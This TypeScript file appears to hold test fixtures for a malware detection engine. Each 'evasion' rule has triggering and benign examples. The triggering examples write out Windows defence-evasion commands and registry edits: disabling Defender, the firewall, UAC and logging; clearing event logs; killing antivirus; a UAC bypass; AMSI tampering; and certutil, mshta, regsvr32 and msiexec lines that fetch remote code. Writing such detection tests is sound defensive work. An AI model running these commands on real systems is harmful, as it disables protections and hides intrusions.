import {
  access,
  call,
  connect,
  copy,
  type Example,
  type Examples,
  get,
  open,
  protect,
  remove,
  run,
  script,
  set,
  write,
} from '../worlds.js'

const defender = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'
const explorer = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced'
const userPolicies = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies'
const policies = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'
const encoded = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'

/** Command lines, one process each. */
const commands = (...lines: readonly string[]): readonly Example[] => lines.map((line) => [run(line)])

export const evasion: Examples = {
  evasion_defender_disabled: {
    fires: [
      [set(`${defender}\\DisableAntiSpyware`, '1')],
      [set(`${defender}\\Real-Time Protection\\DisableRealtimeMonitoring`, '0x00000001')],
    ],
    silent: [[set(`${defender}\\DisableAntiSpyware`, '0')], [get(`${defender}\\DisableAntiSpyware`)]],
  },
  evasion_defender_exclusion: {
    fires: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:', '0')],
      ...commands('powershell Add-MpPreference -ExclusionPath C:\\x'),
    ],
    silent: commands('powershell Get-MpPreference'),
  },
  evasion_defender_command: {
    fires: commands(
      'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
      'sc stop WinDefend',
      'MpCmdRun.exe -RemoveDefinitions -All',
    ),
    silent: commands('sc query WinDefend', 'powershell Set-MpPreference -DisableRealtimeMonitoring $false'),
  },
  evasion_firewall_disabled: {
    fires: [
      ...commands('netsh advfirewall set allprofiles state off', 'netsh firewall set opmode disable'),
      [
        set(
          'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile\\EnableFirewall',
          '0',
        ),
      ],
    ],
    silent: commands('netsh advfirewall show allprofiles', 'netsh advfirewall set allprofiles state on'),
  },
  evasion_firewall_rule: {
    fires: commands(
      'netsh advfirewall firewall add rule name=x dir=in action=allow program=C:\\x.exe',
      'netsh firewall add allowedprogram C:\\x.exe x ENABLE',
    ),
    silent: commands(
      'netsh advfirewall firewall show rule name=all',
      'netsh advfirewall firewall add rule name=x dir=out action=block',
    ),
  },
  evasion_uac_disabled: {
    fires: [[set(`${policies}\\EnableLUA`, '0')]],
    silent: [[set(`${policies}\\EnableLUA`, '1')]],
  },
  evasion_uac_bypass_registry: {
    fires: [[set('HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)', 'C:\\x.exe')]],
    silent: [[set('HKEY_CURRENT_USER\\Software\\Classes\\my-app\\shell\\open\\command\\(Default)', 'C:\\x.exe')]],
  },
  evasion_tools_disabled: {
    fires: [[set(`${policies}\\DisableTaskMgr`, '1')], [set(`${policies}\\DisableRegistryTools`, '0x00000002')]],
    silent: [[set(`${policies}\\DisableTaskMgr`, '0')]],
  },
  evasion_explorer_restricted: {
    fires: [[set(`${userPolicies}\\Explorer\\NoDrives`, '67108863')], [set(`${userPolicies}\\System\\NoAdminPage`)]],
    silent: [
      [set(`${userPolicies}\\Explorer\\NoDrives`, '0')],
      [set('HKEY_CURRENT_USER\\Software\\Editor\\NoDesktop')],
    ],
  },
  evasion_download_warnings: {
    fires: [
      [set(`${userPolicies}\\Associations\\LowRiskFileTypes`, '.exe')],
      [set(`${userPolicies}\\Attachments\\SaveZoneInformation`)],
      [set('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Zones\\3\\1806', '0')],
    ],
    silent: [
      [set('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Zones\\3\\1806', '3')],
      [set(`${userPolicies}\\Attachments\\SaveZoneInformation`, '2')],
    ],
  },
  evasion_hidden_files_setting: {
    fires: [
      [set(`${explorer}\\Hidden`, '2')],
      [set(`${explorer}\\HideFileExt`, '1')],
      [set(`${explorer}\\ShowSuperHidden`, '0')],
    ],
    silent: [[set(`${explorer}\\Hidden`, '1')], [set(`${explorer}\\HideFileExt`, '0')]],
  },
  evasion_attrib_hidden: { fires: commands('attrib +s +h C:\\x.exe'), silent: commands('attrib -h C:\\x.exe') },
  evasion_event_log_cleared: {
    fires: [...commands('wevtutil cl System', 'powershell Clear-EventLog -LogName Security'), [call('ClearEventLogW')]],
    silent: commands('wevtutil qe System'),
  },
  evasion_deletes_itself: {
    fires: commands(
      'cmd /c ping 127.0.0.1 -n 3 > nul & del C:\\x.exe',
      'cmd.exe /C timeout /t 5 && del /f /q "C:\\x.exe"',
    ),
    silent: commands('cmd /c del C:\\x.tmp', 'cmd /c ping 127.0.0.1'),
  },
  evasion_zone_identifier: { fires: [[remove('C:\\x.exe:Zone.Identifier')]], silent: [[remove('C:\\x.exe')]] },
  evasion_alternate_stream: {
    fires: [[write('C:\\x.txt:hidden.exe', 'MZ')]],
    silent: [[write('C:\\x.txt', 'MZ')], [write('C:\\x.txt:Zone.Identifier')]],
  },
  evasion_masquerades_as_windows: {
    fires: [[write('C:\\Users\\u\\AppData\\Roaming\\svchost.exe')], [copy('C:\\a.exe', 'C:\\Temp\\explorer.exe')]],
    silent: [
      [write('C:\\Windows\\System32\\svchost.exe')],
      [copy('C:\\Windows\\explorer.exe', 'C:\\Temp\\a.exe')],
      [write('C:\\Temp\\mysvchost.exe')],
    ],
  },
  evasion_updates_disabled: {
    fires: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU\\NoAutoUpdate', '1')],
      ...commands('sc config wuauserv start= disabled'),
    ],
    silent: commands('sc query wuauserv'),
  },
  evasion_safe_mode: { fires: commands('bcdedit /set {default} safeboot minimal'), silent: commands('bcdedit /enum') },
  evasion_amsi_patch: {
    fires: [
      [script('[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")')],
      ...commands('powershell $x.GetField("amsiInitFailed")'),
    ],
    silent: [
      [protect(undefined, '0x40', 'kernel32.dll')],
      [protect(undefined, '0x04', 'amsi.dll')],
      [script('alert(1)')],
    ],
  },
  evasion_reads_ntdll: {
    fires: [[open('C:\\Windows\\System32\\ntdll.dll'), protect(undefined, '0x40')]],
    silent: [
      [open('C:\\Windows\\System32\\kernel32.dll'), protect(undefined, '0x40')],
      [open('C:\\Windows\\System32\\ntdll.dll')],
    ],
  },
  evasion_antivirus_stopped: {
    fires: commands('taskkill /f /im MsMpEng.exe', 'net stop SophosAgent', 'sc delete ekrn'),
    silent: commands('taskkill /f /im notepad.exe', 'tasklist'),
  },
  evasion_root_certificate: {
    fires: commands('certutil -addstore -f root C:\\x.cer'),
    silent: commands('certutil -store root', 'certutil -addstore my x.cer'),
  },
  evasion_powershell_encoded: {
    fires: commands(`powershell.exe -nop -enc ${encoded}`, `powershell -e ${encoded}`),
    silent: commands('powershell -ExecutionPolicy Bypass -File x.ps1', 'powershell -Command Get-Date'),
  },
  evasion_powershell_hidden: {
    fires: commands('powershell -WindowStyle Hidden -c x', 'powershell -w 1 x'),
    silent: commands('powershell -Command Get-Help'),
  },
  evasion_powershell_policy: {
    fires: commands('powershell -ep bypass x.ps1', 'powershell -ExecutionPolicy Unrestricted x'),
    silent: commands('powershell Get-ExecutionPolicy'),
  },
  evasion_rundll32_unusual: {
    fires: commands(
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x',
      'rundll32 C:\\Users\\u\\AppData\\Local\\Temp\\x.dll,Start',
    ),
    silent: commands('rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL'),
  },
  evasion_regsvr32_script: {
    fires: commands('regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll'),
    silent: commands('regsvr32 /s C:\\Windows\\System32\\x.ocx', 'regsvr32 /s /n /i:U shell32.dll'),
  },
  evasion_mshta: {
    fires: commands('mshta http://x/y.hta', 'mshta.exe vbscript:Close(1)'),
    silent: commands('mshta.exe C:\\Program Files\\x\\help.hta'),
  },
  evasion_certutil: {
    fires: commands('certutil -urlcache -split -f http://x/y.exe', 'certutil.exe -decode a.txt b.exe'),
    silent: commands('certutil -hashfile a.txt'),
  },
  evasion_wmic_stylesheet: {
    fires: commands('wmic os get /format:"http://x/y.xsl"'),
    silent: commands('wmic os get caption /format:csv'),
  },
  evasion_installutil: {
    fires: commands(
      'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /U C:\\Users\\u\\AppData\\Local\\Temp\\x.dll',
    ),
    silent: commands('InstallUtil.exe "C:\\Program Files\\x.exe"'),
  },
  evasion_cmstp: { fires: commands('cmstp.exe /s C:\\x.inf'), silent: commands('cmstp.exe C:\\x.inf') },
  evasion_msiexec_remote: { fires: commands('msiexec /q /i http://x/y.msi'), silent: commands('msiexec /i C:\\y.msi') },
  evasion_odbcconf: { fires: commands('odbcconf /a {REGSVR C:\\x.dll}'), silent: commands('odbcconf /?') },
  evasion_critical_process: {
    fires: [
      [call('RtlSetProcessIsCritical')],
      [call('NtSetInformationProcess', { ProcessInformationClass: '0x0000001d' })],
    ],
    silent: [[call('NtSetInformationProcess', { ProcessInformationClass: '35' })]],
  },
  evasion_smartscreen_disabled: {
    fires: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\System\\EnableSmartScreen', '0')],
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SmartScreenEnabled', 'Off')],
    ],
    silent: [[set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\System\\EnableSmartScreen', '1')]],
  },
  evasion_uac_bypass_com: {
    fires: [
      [call('CoCreateInstance', { rclsid: '3e5fc7f9-9a51-4367-9063-a120244fbec7' })],
      ...commands('dllhost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}'),
    ],
    silent: [
      [call('CoCreateInstance', { rclsid: '4590f811-1d3a-11d0-891f-00aa004b2e24' })],
      ...commands('dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}'),
    ],
  },
  evasion_auditing_disabled: {
    fires: [
      ...commands(
        'auditpol /clear /y',
        'auditpol.exe /set /category:"Logon/Logoff" /success:disable',
        'wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false',
        'sc stop eventlog',
      ),
      [
        set(
          'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Security\\Enabled',
          '0',
        ),
      ],
      [set('HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\MiniNt\\x', '1')],
      [
        set(
          'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging',
          '0',
        ),
      ],
    ],
    silent: [
      [
        set(
          'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Editor/Debug\\Enabled',
          '0',
        ),
      ],
      {
        process: 'wevtutil.exe',
        steps: [
          set(
            'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Editor\\Enabled',
            '0',
          ),
        ],
      },
      ...commands('auditpol /get /category:*', 'wevtutil qe System', 'auditpol /set /category:System /success:enable'),
      [
        set(
          'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Security\\Enabled',
          '1',
        ),
      ],
    ],
  },
  evasion_event_tracing: {
    fires: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\.NETFramework\\ETWEnabled', '0')],
      ...commands('cmd /c set COMPlus_ETWEnabled=0&& x.exe'),
      [script('GetProcAddress("EtwEventWrite")')],
    ],
    silent: [
      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\.NETFramework\\ETWEnabled', '1')],
      ...commands('cmd /c set COMPlus_ETWEnabled=1'),
    ],
  },
  evasion_filter_driver: { fires: commands('fltmc unload SysmonDrv'), silent: commands('fltmc instances') },
  evasion_driver_signatures: {
    fires: commands('bcdedit /set testsigning on', 'bcdedit.exe -set loadoptions DISABLE_INTEGRITY_CHECKS'),
    silent: commands('bcdedit /set testsigning off', 'bcdedit /enum'),
  },
  evasion_lsa_protection: {
    fires: [[set('HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\RunAsPPL', '0')]],
    silent: [[set('HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\RunAsPPL', '1')]],
  },
  evasion_powershell_downgrade: {
    fires: commands('powershell.exe -version 2 -c x', 'powershell -nop -v 2.0 -c x'),
    silent: commands('powershell.exe -version 5.1 -c x', 'powershell Get-Item -Verbose 2'),
  },
  evasion_mavinject: {
    fires: commands('mavinject.exe 4172 /INJECTRUNNING C:\\x.dll'),
    silent: commands('mavinject.exe /?'),
  },
  evasion_control_panel_item: {
    fires: commands(
      'control.exe C:\\Users\\u\\AppData\\Local\\Temp\\x.cpl',
      'rundll32.exe shell32.dll,Control_RunDLL "C:\\Users\\u\\Downloads\\a.cpl"',
    ),
    silent: commands(
      'control.exe appwiz.cpl',
      'rundll32.exe shell32.dll,Control_RunDLL C:\\Windows\\System32\\main.cpl',
    ),
  },
  evasion_compiled_help: {
    fires: [{ process: 'hh.exe', steps: [run('cmd.exe /c x')] }],
    silent: [{ process: 'hh.exe', steps: [run('"C:\\Windows\\notepad.exe"')] }, [run('cmd.exe /c x')]],
  },
  evasion_msbuild: {
    fires: [
      ...commands('C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe C:\\Users\\u\\AppData\\x.csproj'),
      { process: 'MSBuild.exe', steps: [connect('203.0.113.5', 443)] },
    ],
    silent: [
      ...commands('MSBuild.exe C:\\src\\app.csproj'),
      { process: 'MSBuild.exe', steps: [connect('127.0.0.1', 443)] },
    ],
  },
  evasion_compiles_code: {
    fires: commands('csc.exe /noconfig /fullpaths @"C:\\Users\\u\\AppData\\Local\\Temp\\a\\a.cmdline"'),
    silent: commands('csc.exe C:\\src\\a.cs'),
  },
  evasion_indirect_command: {
    fires: commands(
      'forfiles /p c:\\windows /m notepad.exe /c calc.exe',
      'pcalua.exe -a x.exe',
      'conhost.exe --headless cmd',
    ),
    silent: commands('forfiles /p c:\\logs /d -30', 'conhost.exe 0xffffffff -ForceV1'),
  },
  evasion_assembles_file: {
    fires: commands('cmd /c copy /b 1 + 2 + 3 Setup.exe', 'cmd /c copy /b /y a+b c'.replace('/b /y', '/y /b')),
    silent: commands('cmd /c copy /b a.bin b.bin', 'cmd /c copy a + b c.txt'),
  },
  evasion_mounts_image: {
    fires: commands('powershell Mount-DiskImage -ImagePath C:\\x.iso'),
    silent: commands('powershell Get-DiskImage'),
  },
  evasion_token_of_another: {
    fires: [
      [access(700), call('DuplicateTokenEx')],
      [access(700), call('ImpersonateLoggedOnUser')],
    ],
    silent: [[call('DuplicateTokenEx')], [call('DuplicateTokenEx'), access(700)]],
  },
}
